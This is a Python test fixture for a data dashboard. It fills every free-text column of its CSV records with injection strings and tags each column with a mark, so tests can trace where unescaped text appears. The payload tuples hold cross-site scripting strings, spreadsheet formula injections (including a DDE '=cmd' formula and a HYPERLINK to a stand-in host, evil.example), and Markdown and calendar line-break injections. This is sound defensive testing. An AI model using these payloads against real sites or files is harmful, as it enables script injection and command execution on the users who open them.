"""Texts that try to be something else than text, and records that hold them in every column of free
text.

One corpus for every place where a text of the records comes out: pages, files, routes. Each column
has a mark of its own, so that a test can say which text came out where. Which columns there are is
read from the contract.
"""

import csv
import re
import shutil
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from pathlib import Path

from dashboard.schema.contract import Column, Table, tables
from tests.conftest import ROOT

HOST = "evil.example"
"""The other host that the texts name: a request to it, or a link, is a fault. The name is reserved
and leads nowhere.
"""

INLINE = (
    f"<img/src=//{HOST}/i.png/onerror=window.ran=1>",
    "<script>window.ran=1</script>",
    "<svg/onload=window.ran=1><a/xlink:href=javascript:window.ran=1>x</a></svg>",
    f"</title><script/src=//{HOST}/t.js></script>",
    f"<iframe/src=//{HOST}/f></iframe><b/class=pwned>",
    f"![picture](https://{HOST}/m.png)",
    f"[link](https://{HOST}/l)[jump](javascript:window.ran=1)",
    f"https://{HOST}/auto",
    f"www.{HOST}/www",
    ":material/skull::sunglasses::red[pwned]:red-badge[pwned]",
    "**pwned**_pwned_`pwned`~~pwned~~",
    "$pwned^2$$\\frac{pwned}{2}$",
    f"<a/href='//{HOST}/p'>p</a><b>b</b><i>i</i>",
    "</script><!--window.ran=1",
    '";\'x\',"=1+1"',
    "\\N;END:VEVENT,\\n\\",
    "%{customdata}%{x}<extra>pwned</extra>{{7*7}}${7*7}",
    "x" * 300,
    "數據מידעالبيانات👩‍⚕️Ω".replace("\u200d", ""),
)
"""What is tried inside a text. None holds a space: what a source states has at most eight words."""

STARTS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("https://evil.example/h")',
    "=cmd|'/c'!A1",
    "#pwned",
    "1.",
    ">",
)
"""What is tried at the beginning of a text: formulas of spreadsheets, headings, lists and
quotations of Markdown.
"""

BREAKS = (
    "\n\n# pwned\n",
    "\nBEGIN:VALARM\nSUMMARY:pwned\n",
    "\npwned\n===\n",
    "\t=1+1\t",
    "\n\n    pwned\n",
)
"""What is tried in the middle of a text: lines that a calendar, a CSV file or Markdown would read
as their own.
"""

REFUSED = (
    "\x00",
    "\x07",
    "\x1b",
    "\x7f",
    "\x85",
    "\u200b",
    "\u200f",
    "\u2028",
    "\u202e",
    "\u2066",
    "\ufeff",
)
"""Characters that the intake refuses in every cell: controls, zero-width ones and those that turn
the direction.
"""

WORDS_OF_THE_PROGRAM = {("terms", "list"), ("claims", "table_name"), ("claims", "field")}
"""Columns of text that hold names of lists, tables, columns and numbers, and not what somebody
wrote.
"""
ALSO_FREE = {("terms", "list"): "hostile"}
"""Those of them that take any text: only the row with this id is hostile, because the program needs
the others.
"""
MADE_OF_A_PATTERN = {
    ("organisations", "country"): "nl",
    ("people", "orcid"): "0000-0002-1825-009x",
    ("places", "country"): "NLD",
    ("claims", "table_name"): "event",
    ("claims", "field"): "titel",
    ("organisations", "ror"): "03cv38k48",
    ("targets", "metric"): "event_held",
    ("texts", "table_name"): "event",
    ("events", "title_language"): "nld",
    ("trainings", "title_language"): "NL",
    ("projects", "title_language"): "Dutch",
}
"""Columns whose check refuses any other text, each with one that is nearly right."""


@dataclass(frozen=True)
class Mark:
    """The mark of one column of free text. It is one word of small letters and digits, so that no
    escape changes it.
    """

    table: str
    column: str
    text: str

    @property
    def name(self) -> str:
        return f"{self.table}.{self.column}"


def free_text(table: Table) -> list[Column]:
    """The columns into which people write what they like."""
    kept = [c for c in table.file_columns if c.form == "text"]
    return [
        c
        for c in kept
        if (table.name, c.name) not in WORDS_OF_THE_PROGRAM | MADE_OF_A_PATTERN.keys()
    ]


def _marks() -> Iterator[Mark]:
    every = [
        (table.name, column.name) for table in tables().values() for column in free_text(table)
    ]
    for nr, (table, column) in enumerate([*every, *ALSO_FREE]):
        yield Mark(table, column, f"qz{nr:03d}zq")


MARKS: tuple[Mark, ...] = tuple(_marks())
FOUND = re.compile(r"qz\d{3}zq")
BY_TEXT = {mark.text: mark for mark in MARKS}


def marks_in(text: str) -> set[str]:
    """Names of the columns whose mark stands in a text: {"events.title"}."""
    return {BY_TEXT[found].name for found in FOUND.findall(text) if found in BY_TEXT}


def every_text() -> list[str]:
    """Each thing that is tried, by itself; {} stands for the mark of the column."""
    return [
        *(f"{{}} {one}" for one in INLINE),
        *(f"{one} {{}}" for one in STARTS),
        *(f"{{}}{one}{{}}" for one in BREAKS),
    ]


def some_texts(nr: int) -> str:
    """Three things that are tried in one text; others for every `nr`. {} stands for the mark of the
    column.
    """
    start = f"{STARTS[nr // 2 % len(STARTS)]} " if nr % 2 else ""
    between = BREAKS[nr // 3 % len(BREAKS)] if nr % 3 == 0 else " "
    return f"{start}{{}} {INLINE[nr % len(INLINE)]}{between}{INLINE[(nr * 7 + 3) % len(INLINE)]}"


def records(folder: Path, texts: Iterable[str] | None = None) -> Path:
    """A folder of records in which every cell of free text is hostile: `texts` in turn, or others
    for each cell.
    """
    shutil.copytree(ROOT / "tests" / "data", folder)
    _more(folder)
    given = list(texts or ())
    nr = 0
    marks = {(mark.table, mark.column): mark.text for mark in MARKS}
    for table in tables().values():
        path = folder / f"{table.name}.csv"
        with path.open(encoding="utf-8", newline="") as file:
            rows = list(csv.DictReader(file))
        assert rows, f"{path.name} has no row that could be hostile"
        for row_nr, row in enumerate(rows):
            # one that came later is in no file yet
            row |= {c.name: "" for c in table.shown_columns if c.name not in row}
            for column in free_text(table):
                nr += 1
                if column.name == "title_en" and row_nr % 2 == 0:
                    continue  # in its place the title is shown
                text = given[nr % len(given)] if given else some_texts(nr)
                mark = marks[table.name, column.name]
                row[column.name] = text.replace("{}", mark) + (
                    f" {row_nr}" if column.name in table.key else ""
                )
            for column in (
                name for of, name in ALSO_FREE if of == table.name and "hostile" in row.values()
            ):
                row[column] = some_texts(nr).replace("{}", marks[table.name, column])
        with path.open("w", encoding="utf-8", newline="") as file:
            writer = csv.DictWriter(file, list(rows[0]), lineterminator="\n")
            writer.writeheader()
            writer.writerows(rows)
    return folder


def _more(folder: Path) -> None:
    """Rows for the tables that the records to check by hand leave empty; a target that is missed
    and a deviation from it.
    """
    more = {
        "targets": "many-events,events_held,2025,more,50,40,even,x,x\nhostile,contributions,2025,more,50,40,even,x,x",
        "deviations": "late,many-events,x,x,2025-01-01,2027-12-31",
        "terms": "target-direction,more,More,Meer,1,\ntarget-path,even,Even,Gelijkmatig,1,\nx,hostile,x,x,1,",
        "claims": "anna-1,people,anna-berg,job_title,report,differs,x,3,x",
    }
    for table, rows in more.items():
        with (folder / f"{table}.csv").open("a", encoding="utf-8") as file:
            file.write(rows + "\n")
    # the small one is withheld, and with it what sources state of it
    events = folder / "events.csv"
    events.write_text(events.read_text("utf-8").replace(",3,exact,", ",30,exact,"), "utf-8")
